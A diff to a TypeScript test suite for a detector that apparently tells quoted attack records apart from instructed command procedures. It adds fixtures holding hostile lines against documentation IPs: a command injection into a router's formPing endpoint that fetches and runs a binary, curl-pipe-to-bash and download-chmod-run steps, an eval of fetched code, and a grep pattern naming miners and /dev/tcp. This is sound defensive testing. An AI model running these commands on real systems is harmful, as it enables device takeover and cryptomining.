@@ -1,4 +1,4 @@
-import { CitedCode, citedLines } from './cited-lines.js';
+import { CitedCode, CitedMarkdown, citedLines } from './cited-lines.js';
 
 const flags = (text: string) => Array.from(citedLines(text));
 /** Whether a fenced `curl | bash` after a lead-in is cited (the fence line when the lead-in wraps). */
@@ -261,5 +261,80 @@ describe('citedLines (recognition sections and quoted sessions)', () => {
     expect(block('Typical session, quoted verbatim from a log (IPs replaced):')).toBe(1);
     expect(block('then a script like this runs\n(quoted from a honeypot log, IPs replaced):')).toBe(1);
     expect(block('Install it with the command quoted in the README:')).toBe(0);
+  });
+});
+
+describe('CitedMarkdown.isInstructed (records in a fence)', () => {
+  const instructed = (md: string, line: number) => new CitedMarkdown(md).isInstructed(line);
+
+  it('should read an HTTP message as a record, not a procedure', () => {
+    const md =
+      '## Injection\n\nOne request:\n\n```\nPOST /boaform/admin/formPing HTTP/1.1\nHost: 198.51.100.14\nContent-Type: text/plain\n\ntarget_addr=;cd /tmp; wget http://203.0.113.7/x -O .d; chmod 777 .d; ./.d\n```\n';
+    expect(instructed(md, 9)).toBe(false);
+  });
+
+  it('should read JSON lines as records', () => {
+    const md =
+      'Traffic:\n\n```\n{"id":1,"method":"login"}\n{"id":2,"method":"submit"}\n{"id":3,"method":"keepalived"}\n```\n';
+    expect(instructed(md, 3)).toBe(false);
+  });
+
+  it('should read a session with user@host prompts and output as a record', () => {
+    const md =
+      'Stream:\n\n```\nbash: no job control in this shell\nwww-data@web02:/var/www/html$ id\nuid=33(www-data)\nwww-data@web02:/var/www/html$ uname -a\nwww-data@web02:/var/www/html$ curl -s http://203.0.113.40/lp.sh | bash\n```\n';
+    expect(instructed(md, 7)).toBe(false);
+  });
+
+  it('should still read a block of commands as a procedure', () => {
+    const md =
+      'Steps:\n\n```\ncurl -s http://203.0.113.40/lp.sh -o /tmp/lp.sh\nchmod +x /tmp/lp.sh\n/tmp/lp.sh --install\n```\n';
+    expect(instructed(md, 5)).toBe(true);
+    const prompts =
+      'Steps:\n\n```\nme@box:~$ curl -s http://203.0.113.40/lp.sh -o /tmp/lp.sh\nme@box:~$ chmod +x /tmp/lp.sh\nme@box:~$ /tmp/lp.sh --install\n```\n';
+    expect(instructed(prompts, 5)).toBe(true);
+  });
+
+  it('should read 1 MiB of record-like fences quickly', () => {
+    const MiB = 1024 * 1024;
+    for (const body of [
+      '{"a":' + '['.repeat(MiB / 2),
+      ('{"k": "' + 'x'.repeat(3000) + '\n').repeat(MiB / 3008),
+      ('u@h:' + '/'.repeat(300) + '\n').repeat(MiB / 305),
+      'GET ' + '/'.repeat(MiB),
+    ]) {
+      const md = '```\n' + body + '\n```\n';
+      const t0 = performance.now();
+      const cited = new CitedMarkdown(md);
+      cited.isInstructed(1);
+      expect(performance.now() - t0).toBeLessThan(1000);
+    }
+  });
+});
+
+describe('CitedCode (a shell variable used only as a grep pattern)', () => {
+  const first = (text: string) => new CitedCode(text, 'check.sh').isCited(1);
+
+  it('should cite a pattern variable every use of which is a grep pattern', () => {
+    const text =
+      '#!/bin/sh\nBAD=\'wget |curl |xmrig|minerd|/dev/tcp\'\nwhile read -r l; do\n  if echo "$l" | grep -Eq "$BAD"; then echo "[!!] $l"; fi\ndone < /etc/crontabs/root\ngrep -Eh "$BAD" /etc/rc.local\n';
+    expect(first(text)).toBe(true);
+  });
+
+  it('should not cite one that is also run, or never searched with', () => {
+    expect(first('#!/bin/sh\nX=\'curl -s http://203.0.113.9/a|sh\'\ngrep -q "$X" log && eval "$X"\n')).toBe(
+      false,
+    );
+    expect(first('#!/bin/sh\nX=\'xmrig|-o pool:3333\'\nsh -c "$X"\n')).toBe(false);
+    expect(first("#!/bin/sh\nX='xmrig|x'\n")).toBe(false);
+  });
+
+  it('should read 1 MiB of pattern variables quickly', () => {
+    const MiB = 1024 * 1024;
+    const lines = Array.from({ length: MiB / 24 }, (_, k) => `V${k}='xmrig|a' "$V${k}"`);
+    const text = lines.join('\n');
+    const code = new CitedCode(text, 'a.sh');
+    const t0 = performance.now();
+    for (let i = 0; i < lines.length; i += 7) code.isCited(i);
+    expect(performance.now() - t0).toBeLessThan(1000);
   });
 });
